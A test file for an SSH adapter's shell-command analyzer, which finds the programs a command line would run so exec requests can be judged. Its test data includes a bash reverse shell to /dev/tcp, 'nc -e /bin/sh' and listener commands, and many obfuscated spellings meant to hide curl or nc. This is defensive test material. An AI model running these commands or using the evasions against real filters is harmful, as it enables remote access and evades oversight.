@@ -1,0 +1,302 @@
+/**
+ * The programs a shell command line would run (adapters/ssh/src/shell/programs.ts): what an
+ * `ssh host 'command'` exec request is judged by. Most cases are evasions — ways to run `curl`,
+ * `nc`, `ssh` or `wget` without the name appearing where a naive reader looks — and each must
+ * either be seen through, be marked `dynamic`, or be refused.
+ */
+import { beforeAll, describe, expect, it } from 'vitest'
+import fc from 'fast-check'
+import { analyzeCommand, loadShellParser, type CommandFacts } from '../../../adapters/ssh/dist/shell/programs.js'
+
+beforeAll(loadShellParser)
+
+function facts(text: string): CommandFacts {
+  const a = analyzeCommand(text)
+  if (!a.ok) throw new Error(`${JSON.stringify(text)}: ${a.error}`)
+  return a.facts
+}
+
+/** A command line and what must be true of its facts (`programs` is compared exactly, in order). */
+type Case = readonly [title: string, command: string, expected: Partial<CommandFacts>]
+
+const q = (s: string): string => `'${s.replace(/'/g, `'\\''`)}'`
+
+describe('every command in the tree', () => {
+  const cases: Case[] = [
+    ['a pipeline', 'ps aux | grep ssh | nc 10.0.0.1 80', { programs: ['ps', 'grep', 'nc'], dynamic: false }],
+    ['&&, || and ; lists', 'true && curl a || wget b; nc c', { programs: ['true', 'curl', 'wget', 'nc'] }],
+    ['a subshell and a group', '(cd /tmp && curl x); { wget y; }', { programs: ['cd', 'curl', 'wget'] }],
+    ['$( ) inside double quotes, and backticks', 'echo "$(curl x)" `nc y`', { programs: ['echo', 'curl', 'nc'] }],
+    ['substitutions in redirect targets and assignments', 'X=$(wget a) cat > "$(curl b)"', { programs: ['wget', 'cat', 'curl'] }],
+    ['process substitution both ways', 'diff <(curl a) >(nc b)', { programs: ['diff', 'curl', 'nc'] }],
+    ['if / elif / else, conditions and bodies', 'if curl a; then nc b; elif wget c; then ssh d; else scp e f; fi', { programs: ['curl', 'nc', 'wget', 'ssh', 'scp'] }],
+    ['while, until, for and case', 'while curl a; do nc b; done; until false; do :; done; for i in $(wget c); do ssh $i; done; case x in y) scp;; esac', { programs: ['curl', 'nc', 'false', ':', 'wget', 'ssh', 'scp'] }],
+    ['a function body, and the call', 'f() { curl x; }; f', { programs: ['curl', 'f'] }],
+    ['$( ) in an unquoted heredoc', 'cat <<EOF\nhello $(curl x)\nEOF', { programs: ['cat', 'curl'] }],
+    ['backticks in an unquoted heredoc (tree-sitter leaves them as text)', 'cat <<EOF\na `nc y` b\nEOF', { programs: ['cat', 'nc'] }],
+    ['a quoted heredoc runs nothing', "cat <<'EOF'\n$(curl x) `nc y`\nEOF", { programs: ['cat'] }],
+    ['a here-string with a substitution', 'cat <<< "$(curl x)"', { programs: ['cat', 'curl'] }],
+    ['arithmetic expansion holding a substitution', 'echo $(( $(curl x) + 1 ))', { programs: ['echo', 'curl'] }],
+    ['backticks inside ${x:-…} (tree-sitter leaves them as a word)', 'echo "${x:-`nc y`}"', { programs: ['echo', 'nc'] }],
+    ['escaped backticks nested inside backticks', 'x=`echo \\`nc y\\``', { programs: ['echo', 'nc'] }],
+    ['a negated command and an array value', '! curl a; arr=(1 "$(wget b)")', { programs: ['curl', 'wget'] }],
+    ['declaration builtins are programs too', 'export A=$(curl x); unset B', { programs: ['export', 'curl', 'unset'] }],
+  ]
+  it.each(cases)('%s: %s', (_title, command, expected) => {
+    expect(facts(command)).toMatchObject(expected)
+  })
+})
+
+describe('command names decoded as bash does', () => {
+  const cases: Case[] = [
+    ['a backslash', '\\ssh host', { programs: ['ssh'], commands: ['ssh'] }],
+    ['single quotes', "'nc' -l 4444", { programs: ['nc'] }],
+    ['double quotes', '"curl" x', { programs: ['curl'] }],
+    ['quotes inside the word', `c"url" x; c''url y; w'g'"e"t z`, { programs: ['curl', 'wget'] }],
+    ['ANSI-C hex', "$'\\x63url' x", { programs: ['curl'] }],
+    ['ANSI-C octal and unicode', "$'\\143url' x; $'\\u006e'c y", { programs: ['curl', 'nc'] }],
+    ['ANSI-C: a NUL ends the string', "$'nc\\x00zzz' x", { programs: ['nc'] }],
+    ['a line continuation inside the name (tree-sitter splits the word)', 'cu\\\nrl x', { programs: ['curl'] }],
+    ['brace expansion', 'c{u,}rl x', { programs: ['curl'] }],
+    ['a path keeps its basename, the written form is in commands', '/usr/bin/curl x; ./nc y', { programs: ['curl', 'nc'], commands: ['/usr/bin/curl', './nc'] }],
+    ['leading assignments are not the program', 'FOO=1 BAR="x y" curl x', { programs: ['curl'] }],
+    ['case is kept, names are deduplicated', 'Curl a; curl b; curl c', { programs: ['Curl', 'curl'] }],
+  ]
+  it.each(cases)('%s: %s', (_title, command, expected) => {
+    expect(facts(command)).toMatchObject(expected)
+  })
+
+  it('a name computed at run time is dynamic, written as is, and not a program', () => {
+    for (const command of ['$x y', '${x} y', '$(echo curl) y', '`echo nc` y', 'cur? y', '/usr/bin/c* y', 'curl${IFS}x', '"$p" y']) {
+      const f = facts(command)
+      expect(f.dynamic, command).toBe(true)
+      expect(f.programs.includes('curl'), command).toBe(false)
+    }
+    expect(facts('$x -s http://a')).toMatchObject({ programs: [], commands: ['$x'], dynamic: true })
+    expect(facts('$(echo curl) y').programs).toEqual(['echo'])
+  })
+})
+
+describe('wrappers that run their argument', () => {
+  const cases: Case[] = [
+    ['env with options and assignments', 'env -i -u HOME A=1 B=2 curl x', { programs: ['env', 'curl'] }],
+    ['sudo with -u user', 'sudo -u root -E curl x', { programs: ['sudo', 'curl'] }],
+    ['nested wrappers', 'sudo env nohup curl x', { programs: ['sudo', 'env', 'nohup', 'curl'], background: true }],
+    ['nice -n, timeout DURATION, time, stdbuf', 'nice -n 10 timeout -s KILL 5s time stdbuf -oL nc x', { programs: ['nice', 'timeout', 'time', 'stdbuf', 'nc'] }],
+    ['exec, command, builtin', 'exec -a ls curl; command -p wget; builtin eval nc', { programs: ['exec', 'curl', 'command', 'wget', 'builtin', 'eval', 'nc'] }],
+    ['command -v only looks the name up', 'command -v curl', { programs: ['command'] }],
+    ['xargs: the first operand is the program', 'echo u | xargs -n1 -P4 curl -s', { programs: ['echo', 'xargs', 'curl'] }],
+    ['setsid, chroot DIR, strace, ltrace', 'setsid chroot /srv strace -f -o /tmp/t ltrace -e x curl', { programs: ['setsid', 'chroot', 'strace', 'ltrace', 'curl'], background: true }],
+    ['busybox applets', 'busybox nc -l -p 4444', { programs: ['busybox', 'nc'] }],
+    ['doas, watch, flock LOCKFILE', 'doas -u root watch -n1 "flock /tmp/l curl x"', { programs: ['doas', 'watch', 'flock', 'curl'] }],
+    ['find -exec, -execdir and -ok', 'find . -name x -exec curl {} \\; -execdir nc {} + -ok wget {} \\;', { programs: ['find', 'curl', 'nc', 'wget'] }],
+    ['brace expansion moves the program', 'e{n,}v {curl,x}', { programs: ['env', 'ev'] }],
+    ['a redirection before the program (tree-sitter makes the program a redirect target)', 'env >/dev/null curl x; sudo 0</dev/null nc y', { programs: ['env', 'curl', 'sudo', 'nc'], redirects: ['/dev/null'] }],
+    ['words after a heredoc operator are still arguments', 'sudo <<EOF curl x\nhi\nEOF', { programs: ['sudo', 'curl'] }],
+    ['hash -p makes a name run another program', 'hash -p /usr/bin/curl ls; ls x', { programs: ['hash', 'curl', 'ls'] }],
+    ['a program that runs no program is only itself', 'sudo -e /etc/hosts; timeout 5', { programs: ['sudo', 'timeout'], dynamic: false }],
+  ]
+  it.each(cases)('%s: %s', (_title, command, expected) => {
+    expect(facts(command)).toMatchObject(expected)
+  })
+
+  it('a computed word where the wrapped program or its options would be is dynamic', () => {
+    expect(facts('sudo "$cmd" x')).toMatchObject({ programs: ['sudo'], dynamic: true })
+    expect(facts('env $opts curl')).toMatchObject({ dynamic: true })
+    expect(facts('find / -exec {} \\;')).toMatchObject({ programs: ['find'], dynamic: true })
+    expect(facts('xargs -I{} sh -c {}')).toMatchObject({ programs: ['xargs', 'sh'], dynamic: true })
+  })
+})
+
+describe('scripts given to shells, eval and friends', () => {
+  const cases: Case[] = [
+    ['sh -c, bash -c, dash, zsh, ksh', 'sh -c "curl a"; bash -lc \'nc b\'; dash -c wget; zsh -c ssh; ksh -e -c scp', { programs: ['sh', 'curl', 'bash', 'nc', 'dash', 'wget', 'zsh', 'ssh', 'ksh', 'scp'], dynamic: false }],
+    ['bash -o OPTION -c', 'bash -o pipefail -c "curl x | nc y"', { programs: ['bash', 'curl', 'nc'] }],
+    ['su -c and su user -c', 'su -c "curl a" root; su - root -c \'nc b\'', { programs: ['su', 'curl', 'nc'] }],
+    ['eval joins its words', 'eval "cu""rl" x; eval \'nc\' y', { programs: ['eval', 'curl', 'nc'] }],
+    ['nested quoting, three shells deep', `sh -c ${q(`bash -c ${q('eval "curl x"')}`)}`, { programs: ['sh', 'bash', 'eval', 'curl'] }],
+    ['ssh: the remote command is judged too', "ssh -p 22 host 'curl x | sh -c \"nc y\"'", { programs: ['ssh', 'curl', 'sh', 'nc'] }],
+    ['ssh -o ProxyCommand runs locally', 'ssh -o ProxyCommand="nc %h %p" host', { programs: ['ssh', 'nc'] }],
+    ['find -exec sh -c', 'find . -exec sh -c "wget x" \\;', { programs: ['find', 'sh', 'wget'] }],
+    ['xargs sh -c', 'xargs -0 sh -c "curl x"', { programs: ['xargs', 'sh', 'curl'] }],
+    ['a literal heredoc fed to bash', "bash <<'EOF'\ncurl x\nEOF", { programs: ['bash', 'curl'], dynamic: false }],
+    ['a here-string fed to sh', 'sh <<< "nc -e /bin/sh h 1"', { programs: ['sh', 'nc'], dynamic: false }],
+    ['trap and alias values are scripts', "trap 'curl x' EXIT; alias l='nc y'", { programs: ['trap', 'curl', 'alias', 'nc'] }],
+    ['variables whose value a program runs', 'GIT_SSH_COMMAND="nc x" git fetch; PAGER=\'curl y\' man ls', { programs: ['nc', 'git', 'curl', 'man'] }],
+    ['interpreters are reported, their code is not parsed', 'python3 -c "import os; os.system(\'x\')"; perl -e 1; awk \'BEGIN{system("y")}\'', { programs: ['python3', 'perl', 'awk'], dynamic: false }],
+    ['source and . are programs', 'source ~/.bashrc; . ./env.sh', { programs: ['source', '.'] }],
+  ]
+  it.each(cases)('%s: %s', (_title, command, expected) => {
+    expect(facts(command)).toMatchObject(expected)
+  })
+
+  it('a script that is not literal is dynamic', () => {
+    for (const command of ['bash -c "$(echo curl) x"', 'sh -c "$1" _ curl', 'eval "$x"', 'eval $(echo curl)', "trap \"$t\" EXIT", 'su -c "$c"', 'ssh h "$cmd"', 'xargs sh -c']) {
+      expect(facts(command).dynamic, command).toBe(true)
+    }
+  })
+
+  it('a shell reading commands from a pipe or the channel is dynamic', () => {
+    expect(facts('echo curl x | bash')).toMatchObject({ programs: ['echo', 'bash'], dynamic: true })
+    expect(facts('bash')).toMatchObject({ dynamic: true })
+    expect(facts('sudo -s')).toMatchObject({ dynamic: true })
+    expect(facts('bash -s < /tmp/script')).toMatchObject({ dynamic: true })
+    expect(facts('. <(curl -s http://x)')).toMatchObject({ programs: ['.', 'curl'], dynamic: true })
+    // a script file is like any program: what it runs is not known, but nothing is computed
+    expect(facts('bash ./deploy.sh')).toMatchObject({ programs: ['bash'], dynamic: false })
+  })
+
+  it('a literal that bash can still run as code (arithmetic subscripts, ${x@P}) is dynamic', () => {
+    expect(facts("x='a[$(curl y)]'; echo $((x))").dynamic).toBe(true)
+    expect(facts('echo ${x@P}').dynamic).toBe(true)
+    expect(facts("[[ -v 'a[$(curl y)]' ]]").dynamic).toBe(true)
+    expect(facts("printf -v 'a[$(curl y)]' %s 1").dynamic).toBe(true)
+    expect(facts("echo '$(curl y)'").dynamic).toBe(false)
+  })
+})
+
+describe('redirections, network and background', () => {
+  const cases: Case[] = [
+    ['an output redirect to /dev/tcp', 'echo hi > /dev/tcp/10.0.0.1/80', { programs: ['echo'], redirects: ['/dev/tcp/10.0.0.1/80'], network: true }],
+    ['an input redirect, quoted', 'cat < "/dev/udp/10.0.0.1/53"', { redirects: ['/dev/udp/10.0.0.1/53'], network: true }],
+    ['a reverse shell', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', { programs: ['bash'], redirects: ['/dev/tcp/10.0.0.1/4444'], network: true }],
+    ['quoting inside the path', `exec 3>/dev/t'c'p/h/1`, { network: true }],
+    ['a network path stored in a variable', 'f=/dev/tcp/h/1; cat < $f', { network: true }],
+    ['a network path in a nested script', 'sh -c "echo x >/dev/tcp/h/1"', { programs: ['sh', 'echo'], network: true }],
+    ['ordinary redirects; descriptor duplication is not a file', 'sort < /etc/passwd 2>&1 >> out.txt &> /dev/null', { redirects: ['/etc/passwd', 'out.txt', '/dev/null'], network: false }],
+    ['&', 'curl x &', { background: true }],
+    ['nohup, setsid, coproc, disown', 'nohup a; setsid b; coproc c; disown', { background: true, programs: ['nohup', 'a', 'setsid', 'b', 'coproc', 'c', 'disown'] }],
+    ['coproc NAME { … } (tree-sitter reads the braces as words)', 'coproc N { nc -l 4444; }', { programs: ['coproc', 'nc'], background: true }],
+    ['no background', 'curl x && wget y', { background: false, network: false }],
+  ]
+  it.each(cases)('%s: %s', (_title, command, expected) => {
+    expect(facts(command)).toMatchObject(expected)
+  })
+})
+
+describe('what is refused', () => {
+  it.each([
+    ['an unterminated quote', 'echo "abc'],
+    ['an unclosed substitution', 'echo $(curl x'],
+    ['a missing command after &&', 'curl x &&'],
+    ['an if without fi', 'if true; then curl x'],
+    ['an unclosed backtick in a heredoc', 'cat <<EOF\n`curl x\nEOF'],
+    ['a word bash rejects after a compound statement', '(true) > /dev/null curl x'],
+    ['<> (tree-sitter-bash does not parse it)', 'exec 3<>/dev/tcp/10.0.0.1/80'],
+    ['vertical tab: tree-sitter starts a comment bash does not see', 'x\v#\v;curl y'],
+    ['a carriage return before a newline', 'x \\\r\ncurl y'],
+    ['an escaped tab', 'echo a\\\tb'],
+    ['a NUL', 'curl\0x'],
+    // tree-sitter-bash continues a pipeline across a newline: the next line's program becomes an argument
+    ['a newline tree-sitter reads as a space', 'x | y | z\ncurl || w'],
+    ['a newline tree-sitter glues into a word', 'a | a\n\\curl'],
+  ])('%s', (_title, command) => {
+    const a = analyzeCommand(command)
+    expect(a.ok).toBe(false)
+    if (!a.ok) expect(a.error).toMatch(/could not be parsed|read differently|NUL/)
+  })
+
+  it('the parse error says so', () => {
+    expect(analyzeCommand('echo "abc')).toEqual({ ok: false, error: 'the command line could not be parsed' })
+  })
+
+  it('command lines over 64 KiB, and scripts nested deeper than 8', () => {
+    expect(analyzeCommand(`echo ${'a'.repeat(64 * 1024)}`)).toMatchObject({ ok: false, error: expect.stringMatching(/longer than 65536 bytes/) })
+    expect(analyzeCommand(`echo ${'é'.repeat(33 * 1024)}`).ok).toBe(false)
+    expect(analyzeCommand(`echo ${'a'.repeat(60 * 1024)}`).ok).toBe(true)
+    let nested = 'curl x'
+    for (let depth = 1; depth <= 9; depth++) {
+      nested = `sh -c ${q(nested)}`
+      const a = analyzeCommand(nested)
+      if (depth <= 8) expect(a.ok && a.facts.programs, `depth ${depth}`).toEqual(['sh', 'curl'])
+      else expect(a).toMatchObject({ ok: false, error: expect.stringMatching(/deeper/) })
+    }
+    expect(analyzeCommand(`echo ${'$('.repeat(5000)}x${')'.repeat(5000)}`).ok).toBe(false)
+    expect(analyzeCommand(`eval eval{,}{,}{,}{,}{,}{,} curl`).ok).toBe(false)
+  })
+})
+
+/** Words that cannot change the shape of a command line: no reserved words. */
+const RESERVED = new Set(['if', 'then', 'else', 'elif', 'fi', 'case', 'esac', 'for', 'select', 'while', 'until', 'do', 'done', 'in', 'function', 'time', 'coproc'])
+const simpleWord = fc.stringMatching(/^[a-z][a-z0-9._-]{0,7}$/).filter((w) => !RESERVED.has(w))
+const argument = fc.oneof(
+  simpleWord,
+  fc.stringMatching(/^-[a-zA-Z]{1,3}$/),
+  fc.stringMatching(/^\/[a-z]{1,6}(\/[a-z]{1,6}){0,2}$/),
+  fc.constantFrom('"a b"', "'c d'", '$x', '"$y"', '$(date)', '>/dev/null', '2>&1', '<in', '*.txt', '{a,b}', 'A=1'),
+)
+const stage = fc.tuple(fc.constantFrom('', 'A=1 ', '! '), simpleWord, fc.array(argument, { maxLength: 4 })).map(([prefix, name, args]) => `${prefix}${[name, ...args].join(' ')}`)
+/** Ways of writing `curl` that bash reads as `curl`. */
+const spelling = fc.constantFrom('curl', '\\curl', "'curl'", '"curl"', 'c"ur"l', "$'\\x63url'", "$'\\143url'", '/usr/bin/curl', 'c{u,}rl', 'cu\\\nrl')
+const wrapped = fc.constantFrom('', 'sudo ', 'env A=1 ', 'nohup ', 'timeout 5 ', 'nice -n 5 ', 'xargs ', 'exec ', 'command ', 'sudo -u x env nohup ', 'B=2 ', '>/dev/null ')
+/** Places a command can sit in, inside other commands or handed to other shells. */
+const context = fc.constantFrom<(c: string) => string>(
+  (c) => c,
+  (c) => `(${c})`,
+  (c) => `{ ${c}; }`,
+  (c) => `echo "$(${c})"`,
+  (c) => `echo \`${c}\``,
+  (c) => `cat <(${c})`,
+  (c) => `sh -c ${q(c)}`,
+  (c) => `bash -c "${c.replace(/["\\$`]/g, '\\$&')}"`,
+  (c) => `eval ${q(c)}`,
+  (c) => `if ${c}; then :; fi`,
+  (c) => `while ${c}; do :; done`,
+  (c) => `for i in a; do ${c}; done`,
+  (c) => `case x in x) ${c};; esac`,
+  (c) => `f() { ${c}; }`,
+  (c) => `x=$(${c})`,
+  (c) => `${c} > /tmp/o`,
+  (c) => `cat <<EOF\n$(${c})\nEOF`,
+  (c) => `${c} <<'E'\nq\nE`,
+)
+
+/** A random list of simple commands joined by `separators`, with a `curl` command written, wrapped and placed at random among them. */
+const commandLine = (separators: readonly string[]) =>
+  fc
+    .tuple(fc.array(stage, { minLength: 1, maxLength: 6 }), fc.array(fc.constantFrom(...separators), { minLength: 6, maxLength: 6 }), fc.nat(), spelling, wrapped, context, fc.array(argument, { maxLength: 3 }))
+    .map(([stages, joins, at, spelled, wrapper, where, args]) => {
+      const parts = [...stages]
+      parts.splice(at % (parts.length + 1), 0, where(`${wrapper}${spelled} ${args.join(' ')}`.trim()))
+      return { text: parts.map((p, i) => (i === 0 ? p : `${joins[i - 1] ?? ' | '}${p}`)).join(''), stages }
+    })
+
+describe('properties', () => {
+  it('arbitrary text never throws: the analysis is ok or refused', () => {
+    const tokens = fc.constantFrom('curl', 'sh', '-c', 'sudo', 'env', 'eval', 'x', '"', "'", '`', '$(', ')', '(', '{', '}', '${', '$', '\\', '\n', '\\\n', ';', '|', '&', '&&', '<', '>', '<<', '<<<', 'EOF', '#', '*', '?', '[', ']', ',', '=', "$'", '\\x63', ' ', '\t', '\r', '\v', 'xargs', '-exec', '{}', 'bash', '/dev/tcp/1/2', 'coproc', 'case', 'esac', 'if', 'fi', '((', '))', '$((')
+    const soup = fc.array(tokens, { maxLength: 40 }).map((parts) => parts.join(''))
+    fc.assert(
+      fc.property(fc.oneof(fc.string({ maxLength: 200 }), fc.string({ unit: 'binary', maxLength: 100 }), soup), (text) => {
+        const a = analyzeCommand(text)
+        if (a.ok) {
+          expect(Array.isArray(a.facts.programs) && Array.isArray(a.facts.commands) && Array.isArray(a.facts.redirects)).toBe(true)
+        } else {
+          expect(a.error.length).toBeGreaterThan(0)
+        }
+      }),
+      { numRuns: 3000 },
+    )
+  })
+
+  it('a program put anywhere in a random one-line pipeline or list of simple words, however written and wrapped, is found', () => {
+    fc.assert(
+      fc.property(commandLine([' | ', ' |& ', ' && ', ' || ', '; ', ' & ']), ({ text, stages }) => {
+        const f = facts(text)
+        expect(f.programs).toContain('curl')
+        for (const s of stages) expect(f.programs).toContain(s.replace(/^(A=1 |! )/, '').split(' ')[0])
+      }),
+      { numRuns: 2000 },
+    )
+  })
+
+  it('across lines too, the program is found or the command line is refused', () => {
+    fc.assert(
+      fc.property(commandLine([' | ', ' && ', '; ', '\n', ' |\n', ' &&\n', ' ||\n', '\n\n', ' # comment\n']), ({ text }) => {
+        const a = analyzeCommand(text)
+        if (a.ok) expect(a.facts.programs).toContain('curl')
+        else expect(a.error).toBe('the command line could not be parsed')
+      }),
+      { numRuns: 2000 },
+    )
+  })
+})
